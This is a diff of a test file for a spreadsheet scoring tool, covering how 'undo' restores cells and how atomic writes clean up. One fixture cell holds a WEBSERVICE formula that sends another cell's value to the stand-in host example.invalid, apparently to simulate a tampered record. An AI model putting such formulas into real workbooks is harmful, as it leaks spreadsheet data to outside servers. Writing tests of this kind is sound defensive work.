@@ -49,7 +49,7 @@ describe("undo writes only the cells a fill owns", () => {
     record.getCell("F2").value = 4502.03; // what D5 holds, so that only the place is wrong
     record.getCell("E3").value = '=WEBSERVICE("http://example.invalid/?"&基础数据!D5)';
     await wb.xlsx.writeFile(path);
-    const r = await perfScore(["undo", path, "--in-place"]);
+    const r = await perfScore(["undo", path, "--in-place"], "", 1000);
     expect(r.code).toBe(0);
     expect(r.stdout).toContain(
       "[提示] 评分记录!G2 评分记录第 2 行指向 基础数据!D5，它不是评分写入的单元格（指标体系表的得分、扣分原因和总计），未还原：评分记录可能被改动过",
@@ -187,9 +187,13 @@ describe("nothing is left behind", () => {
   it("a write that fails removes its temporary file and leaves the target as it was", () => {
     writeFileSync(at("target.txt"), "old");
     expect(() =>
-      writeAtomically(at("target.txt"), () => {
-        throw Object.assign(new Error("no space"), { code: "ENOSPC" });
-      }),
+      writeAtomically(
+        at("target.txt"),
+        () => {
+          throw Object.assign(new Error("no space"), { code: "ENOSPC" });
+        },
+        true,
+      ),
     ).toThrow(`无法写入 ${at("target.txt")}：磁盘空间不足`);
     expect(readFileSync(at("target.txt"), "utf8")).toBe("old");
     expect(readdirSync(dir).filter((n) => n.endsWith(".tmp"))).toEqual([]);
